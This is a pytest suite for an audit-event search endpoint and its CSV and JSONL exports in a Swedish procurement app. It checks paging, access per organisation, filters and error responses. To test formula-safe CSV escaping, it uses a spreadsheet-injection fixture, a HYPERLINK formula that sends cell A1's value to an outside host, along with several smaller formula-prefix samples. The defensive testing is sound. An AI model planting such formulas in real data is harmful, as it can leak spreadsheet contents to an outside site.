"""Audit review for controllers: GET /api/audit/events (search with a cursor) and its exports
/api/audit/events.csv and /api/audit/events.jsonl. Each shows only the events of the cases the
caller may read; what each should hold is read from the database with SQL."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from helpers import (
    PROBLEM_JSON,
    User,
    add_user,
    assert_problem,
    bearer,
    frozen,
    record,
    run,
    start,
)
from upphandla.api import routes_audit
from upphandla.flows.commands.cases import Advance
from upphandla.flows.views import audit as audit_views
from upphandla.states import events
from upphandla.store.db import Database

EVENTS = "/api/audit/events"
HYPERLINK = '=HYPERLINK("https://example.com/?q="&A1,"Klicka här")'
ITEM_FIELDS = {
    "id",
    "case_id",
    "case_title",
    "seq",
    "at",
    "action",
    "actor_id",
    "actor_name",
    "body",
    "hash",
    "log_index",
}


def event_ids(db: Database, where: str = "1 = 1", **params: Any) -> list[int]:
    """The ids of the stored events that match, by id, read with SQL."""
    with db.reader.connect() as conn:
        rows = conn.execute(text(f"SELECT id FROM audit_events WHERE {where} ORDER BY id"), params)
        return [r[0] for r in rows]


def case_ids_of(db: Database, organisation: str) -> list[int]:
    with db.reader.connect() as conn:
        rows = conn.execute(
            text("SELECT id FROM cases WHERE organisation = :o ORDER BY id"), {"o": organisation}
        )
        return [r[0] for r in rows]


class Log:
    """Two organisations' cases with events at known times (UTC):

    - 2026-03-02 08:00 a beställare of socialförvaltningen starts "Trygghetslarm";
    - 2026-03-03 09:00 the upphandlare starts a case for kommunstyrelsens förvaltning whose
      title is a spreadsheet formula;
    - 2026-03-04 10:00 the beställare records the needs analysis on "Trygghetslarm" and moves
      it on with the comment "+1+1";
    - 2026-03-05 11:00 Kerstin, a beställare of kommunstyrelsens förvaltning, records the needs
      analysis on the other case.
    """

    def __init__(self, db: Database, users: dict[str, User]):
        self.users = users
        self.kerstin = add_user(
            db,
            name="Kerstin Åström",
            email="kerstin@example.se",
            role="bestallare",
            organisation="kommunstyrelsens_forvaltning",
        )
        with frozen("2026-03-02 08:00:00"):
            self.social = start(db, users["bestallare"], title="Trygghetslarm")
        with frozen("2026-03-03 09:00:00"):
            self.ks = start(
                db,
                users["upphandlare"],
                title=HYPERLINK,
                organisation="kommunstyrelsens_forvaltning",
            )
        with frozen("2026-03-04 10:00:00"):
            record(db, self.social, "behovsanalys_done", users["bestallare"])
            run(
                db,
                Advance(
                    actor=users["bestallare"].actor,
                    case_id=self.social,
                    trigger="complete_behovsanalys",
                    comment="+1+1",
                ),
            )
        with frozen("2026-03-05 11:00:00"):
            record(db, self.ks, "behovsanalys_done", self.kerstin)


@pytest.fixture
def log(db: Database, users: dict[str, User]) -> Log:
    return Log(db, users)


def search(client: TestClient, user: User, **params: Any) -> dict[str, Any]:
    response = client.get(EVENTS, params=params, headers=user.headers)
    assert response.status_code == 200, response.text
    return response.json()


def walk(client: TestClient, user: User, **params: Any) -> list[dict[str, Any]]:
    """Every item of a search, page by page along next_cursor."""
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        body = search(client, user, **params, **({"cursor": cursor} if cursor else {}))
        items += body["items"]
        cursor = body["next_cursor"]
        if cursor is None:
            return items


def export_csv(client: TestClient, user: User, **params: Any) -> list[dict[str, str]]:
    response = client.get(f"{EVENTS}.csv", params=params, headers=user.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for Excel
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and '.csv"' in disposition
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert tuple(rows[0]) == routes_audit.CSV_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def export_jsonl(client: TestClient, user: User, **params: Any) -> list[dict[str, Any]]:
    response = client.get(f"{EVENTS}.jsonl", params=params, headers=user.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/jsonl")
    assert response.headers["content-disposition"].startswith("attachment;")
    return [json.loads(line) for line in response.text.splitlines()]


def ids(items: list[dict[str, Any]]) -> list[int]:
    return [int(i["id"]) for i in items]


# -- what the controller sees -------------------------------------------------------------------


def test_the_controller_sees_every_event_oldest_first_with_its_hash(
    client: TestClient, db: Database, log: Log
) -> None:
    items = walk(client, log.users["controller"], limit=500)
    assert ids(items) == event_ids(db)
    for item in items:
        assert set(item) == ITEM_FIELDS
        assert hashlib.sha256(item["body"].encode("utf-8")).hexdigest() == item["hash"]
        body = json.loads(item["body"])
        assert (body["case_id"], body["seq"], body["action"]) == (
            item["case_id"],
            item["seq"],
            item["action"],
        )
    started = next(i for i in items if i["case_id"] == log.ks and i["action"] == "case_started")
    assert started["case_title"] == HYPERLINK
    assert started["actor_name"] == "Testperson upphandlare"
    assert started["at"].startswith("2026-03-03T09:00:00")
    kerstins = [i for i in items if i["actor_id"] == log.kerstin.actor.user_id]
    assert [i["actor_name"] for i in kerstins] == ["Kerstin Åström"]


@pytest.mark.parametrize(
    ("params", "where"),
    [
        ({"action": "case_started"}, "action = 'case_started'"),
        (
            {"action": ["evidence_recorded", "transition"]},
            "action IN ('evidence_recorded', 'transition')",
        ),
        # 2026-03-04 00:00 in Stockholm is 2026-03-03 23:00 UTC: the start of 03-03 at 09:00
        # UTC is before it.
        ({"since": "2026-03-04T00:00:00+01:00"}, "at >= '2026-03-03 23:00:00'"),
        ({"until": "2026-03-03T09:00:00Z"}, "at < '2026-03-03 09:00:00'"),
        (
            {"since": "2026-03-03T00:00:00Z", "until": "2026-03-05T00:00:00Z"},
            "at >= '2026-03-03' AND at < '2026-03-05'",
        ),
        ({"since": "2026-03-05T00:00:00Z", "until": "2026-03-05T00:00:00Z"}, "1 = 0"),
        ({"since": "2027-01-01t00:00:00z"}, "1 = 0"),  # RFC 3339 allows lower case
    ],
)
def test_filters_by_action_and_time(
    client: TestClient,
    db: Database,
    backend: str,
    log: Log,
    params: dict[str, Any],
    where: str,
) -> None:
    if backend == "postgresql":
        where = where.replace("at ", "at AT TIME ZONE 'UTC' ")
    expected = event_ids(db, where)
    if "1 = 0" not in where:
        assert expected, f"the fixture has no event where {where}"
    assert ids(walk(client, log.users["controller"], **params)) == expected


def test_filters_by_case_and_actor(client: TestClient, db: Database, log: Log) -> None:
    controller = log.users["controller"]
    assert ids(walk(client, controller, case_id=log.ks)) == event_ids(db, f"case_id = {log.ks}")
    kerstin = log.kerstin.actor.user_id
    assert ids(walk(client, controller, actor_id=kerstin)) == event_ids(db, f"actor_id = {kerstin}")
    bestallare = log.users["bestallare"].actor.user_id
    found = walk(client, controller, actor_id=bestallare, case_id=log.social, action="transition")
    assert [(i["action"], json.loads(i["body"])["comment"]) for i in found] == [
        ("transition", "+1+1")
    ]
    assert walk(client, controller, case_id=987654) == []


# -- paging -------------------------------------------------------------------------------------


def test_a_cursor_walk_hands_out_every_event_once_while_events_are_appended(
    client: TestClient, db: Database, log: Log
) -> None:
    controller = log.users["controller"]
    seen: list[int] = []
    cursor = None
    appended = 0
    while True:
        params: dict[str, Any] = {"limit": 2}
        if cursor:
            params["cursor"] = cursor
        response = client.get(EVENTS, params=params, headers=controller.headers)
        assert response.status_code == 200, response.text
        body = response.json()
        assert len(body["items"]) <= 2
        seen += ids(body["items"])
        cursor = body["next_cursor"]
        if cursor is None:
            assert "link" not in response.headers
            break
        link = response.headers["link"]
        assert link.endswith('>; rel="next"') and f"cursor={cursor}" in link
        if appended < 3:  # someone works on a case between two pages
            with frozen("2026-03-06 12:00:00"):
                start(db, log.users["bestallare"], title=f"Nytt ärende {appended}")
            appended += 1
    assert appended == 3
    assert len(seen) == len(set(seen)), "an event was handed out twice"
    assert seen == event_ids(db), "every event, the new ones too, in id order"


def test_the_cursor_is_opaque_and_only_ours_is_accepted(client: TestClient, log: Log) -> None:
    controller = log.users["controller"]
    first = search(client, controller, limit=1)
    cursor = first["next_cursor"]
    assert cursor and str(first["items"][0]["id"]) != cursor
    assert (
        search(client, controller, limit=1, cursor=cursor)["items"][0]["id"]
        > first["items"][0]["id"]
    )


# -- who sees what -------------------------------------------------------------------------------


def test_a_bestallare_sees_no_event_of_another_organisations_cases(
    client: TestClient, db: Database, log: Log
) -> None:
    own = case_ids_of(db, "socialforvaltningen")
    other = case_ids_of(db, "kommunstyrelsens_forvaltning")
    assert own and other
    for user, visible, hidden in (
        (log.users["bestallare"], own, other),
        (log.kerstin, other, own),
    ):
        where = f"case_id IN ({', '.join(map(str, visible))})"
        expected = event_ids(db, where)
        assert expected
        found = walk(client, user, limit=1)
        assert ids(found) == expected
        assert ids(export_csv(client, user)) == expected
        assert ids(export_jsonl(client, user)) == expected
        for case_id in hidden:  # not even when asked for by its number
            assert walk(client, user, case_id=case_id) == []
            assert export_csv(client, user, case_id=case_id) == []
            assert export_jsonl(client, user, case_id=case_id) == []
        for exported in export_jsonl(client, user):
            assert exported["case_id"] not in hidden


def test_an_administrator_reads_no_case_and_so_no_event(client: TestClient, log: Log) -> None:
    admin = log.users["admin"]
    assert search(client, admin) == {"items": [], "limit": 100, "next_cursor": None}
    assert export_csv(client, admin) == []
    assert export_jsonl(client, admin) == []


# -- exports -------------------------------------------------------------------------------------


def test_the_csv_export_is_formula_safe_and_reads_back(
    client: TestClient, db: Database, log: Log
) -> None:
    rows = export_csv(client, log.users["controller"])
    assert ids(rows) == event_ids(db)
    titles = {row["case_title"] for row in rows if row["case_id"] == str(log.ks)}
    assert titles == {"'" + HYPERLINK}
    transition = next(row for row in rows if row["action"] == "transition")
    assert transition["comment"] == "'+1+1"
    assert (transition["from_state"], transition["to_state"]) == ("behovsanalys", "forstudie")
    assert transition["role"] == "bestallare"
    kerstins = [r for r in rows if r["actor_id"] == str(log.kerstin.actor.user_id)]
    assert [r["actor_name"] for r in kerstins] == ["Kerstin Åström"]
    for row in rows:
        # The body is JSON (it starts with "{"): unchanged, its hash can be checked.
        assert hashlib.sha256(row["body"].encode("utf-8")).hexdigest() == row["hash"]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+46 8 123", "'+46 8 123"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Åsa", "Åsa"),
        ("a=b", "a=b"),
        (None, ""),
        (12, "12"),
    ],
)
def test_formula_safe_cells(value: Any, cell: str) -> None:
    assert routes_audit.safe_cell(value) == cell


def test_the_jsonl_export_has_the_fields_of_the_search(
    client: TestClient, db: Database, log: Log
) -> None:
    controller = log.users["controller"]
    lines = export_jsonl(client, controller)
    assert lines == walk(client, controller, limit=500)
    filtered = export_jsonl(
        client, controller, action="evidence_recorded", since="2026-03-05T00:00:00Z"
    )
    assert [(e["case_id"], e["actor_id"]) for e in filtered] == [
        (log.ks, log.kerstin.actor.user_id)
    ]


def test_an_export_larger_than_a_chunk_is_read_chunk_by_chunk(
    client: TestClient, db: Database, log: Log, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_views, "EXPORT_CHUNK", 2)
    controller = log.users["controller"]
    assert ids(export_jsonl(client, controller)) == event_ids(db)
    assert ids(export_csv(client, controller)) == event_ids(db)


# -- refusals ------------------------------------------------------------------------------------


def _cursor(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.mark.parametrize(
    ("params", "path"),
    [
        ({"cursor": "inte-en-markör"}, "cursor"),
        ({"cursor": "!!!"}, "cursor"),
        ({"cursor": _cursor(b"x12")}, "cursor"),
        ({"cursor": _cursor(b"e0")}, "cursor"),
        ({"cursor": _cursor(b"e-1")}, "cursor"),
        ({"cursor": _cursor(b"e" + b"9" * 30)}, "cursor"),
        ({"cursor": "x" * 65}, "cursor"),
        ({"action": "deleted"}, "action"),
        ({"since": "2026-03-02T09:00:00"}, "since"),  # no offset
        ({"since": "2026-03-02"}, "since"),
        ({"until": "i morgon"}, "until"),
        ({"until": "2026-03-02T09:00:00 01:00"}, "until"),  # a "+" sent unencoded
        ({"since": "9999-12-31T23:00:00-05:00"}, "since"),  # past the last instant
        ({"since": "2026-03-05T00:00:00Z", "until": "2026-03-04T00:00:00Z"}, "since"),
        ({"case_id": 0}, "case_id"),
        ({"actor_id": "ett"}, "actor_id"),
    ],
)
def test_bad_search_parameters_answer_422_in_swedish(
    client: TestClient, users: dict[str, User], params: dict[str, Any], path: str
) -> None:
    urls = [EVENTS, f"{EVENTS}.csv", f"{EVENTS}.jsonl"]
    if "cursor" in params:
        urls = [EVENTS]
    for url in urls:
        response = client.get(url, params=params, headers=users["controller"].headers)
        body = assert_problem(response, 422)
        assert path in [e["path"].split(".")[-1].split("[")[0] for e in body["errors"]], body


@pytest.mark.parametrize("limit", [0, 501, -1])
def test_limit_is_1_to_500(client: TestClient, users: dict[str, User], limit: int) -> None:
    response = client.get(EVENTS, params={"limit": limit}, headers=users["controller"].headers)
    assert_problem(response, 422)


@pytest.mark.parametrize("url", [EVENTS, f"{EVENTS}.csv", f"{EVENTS}.jsonl"])
def test_without_a_valid_token_401(client: TestClient, url: str) -> None:
    assert_problem(client.get(url), 401)
    assert_problem(client.get(url, headers=bearer("ingen-sadan-token")), 401)


# -- the contract ---------------------------------------------------------------------------------


def test_every_action_of_the_engine_can_be_searched_for() -> None:
    """Every action of the case chains; reads of sealed bids are in the sealed chains, which a
    search does not cover (they are shown with the case's trail, once the bids are unsealed)."""
    actions = {
        v
        for k, v in vars(events).items()
        if k.isupper() and k not in ("CANCEL_TRIGGER", "SEALED_READ")
    }
    assert set(audit_views.ACTIONS) == actions


def test_openapi_documents_the_search_and_its_refusals(client: TestClient) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    for url in (EVENTS, f"{EVENTS}.csv", f"{EVENTS}.jsonl"):
        responses = paths[url]["get"]["responses"]
        for status in ("401", "422"):
            assert PROBLEM_JSON in responses[status]["content"], (url, status)
    assert "text/csv" in paths[f"{EVENTS}.csv"]["get"]["responses"]["200"]["content"]
    assert "application/jsonl" in paths[f"{EVENTS}.jsonl"]["get"]["responses"]["200"]["content"]
    page = paths[EVENTS]["get"]["responses"]["200"]["content"]["application/json"]["schema"]
    assert page["$ref"].endswith("/AuditEventPageOut")


# -- the command line ----------------------------------------------------------------------------


def test_the_command_line_exports_what_the_controller_exports(
    client: TestClient, db: Database, db_url: str, log: Log
) -> None:
    from typer.testing import CliRunner

    from upphandla.cli.main import app
    from upphandla.flows.settings import get_settings

    def cli(*args: str) -> Any:
        get_settings.cache_clear()
        try:
            return CliRunner().invoke(
                app, ["audit", "export-events", *args], env={"UPPHANDLA_DATABASE_URL": db_url}
            )
        finally:
            get_settings.cache_clear()

    controller = log.users["controller"]
    jsonl = cli("--format", "jsonl", "--action", "case_started")
    assert jsonl.exit_code == 0, jsonl.output
    lines = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert lines == export_jsonl(client, controller, action="case_started")
    as_csv = cli("--format", "csv", "--case-id", str(log.ks))
    assert as_csv.exit_code == 0, as_csv.output
    assert as_csv.stdout_bytes.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(as_csv.stdout_bytes.decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == [str(i) for i in event_ids(db, f"case_id = {log.ks}")]
    refused = cli("--format", "csv", "--since", "igår")
    assert refused.exit_code == 2
    assert "since" in refused.output
